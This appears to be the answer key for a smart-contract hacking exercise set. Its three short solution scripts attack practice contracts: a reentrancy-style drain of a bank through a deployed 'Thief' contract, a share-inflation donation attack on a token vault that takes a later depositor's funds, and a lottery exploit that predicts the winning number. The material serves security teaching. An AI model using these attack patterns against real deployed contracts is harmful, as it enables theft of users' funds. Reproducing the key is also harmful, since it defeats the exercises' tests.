# One way to solve each exercise; the tests put it into the empty cell before the check.

# %% break_it-1
thief = chain.deploy("Thief", sender=ivan)
thief.run(bank, bank.deposit.data(), value=ether(1), sender=ivan)
thief.rob(bank, bank.withdraw.data(), sender=ivan)
thief.handOver(sender=ivan)

# %% break_it-2
vault.deposit(1, ivan, sender=ivan)
token.transfer(vault, ether(250), sender=ivan)
vault.deposit(ether(250), grace, sender=grace)
vault.redeem(1, ivan, sender=ivan)

# %% break_it-3
request = rng.request(sender=ivan).events[0].args["id"]
number = lottery.numberOf(bytes(32), ivan)
lottery.play(number, value=lottery.PRICE(), sender=ivan)
chain.mine(270)
lottery.claim(sender=ivan)
rng.keep(request, sender=ivan)
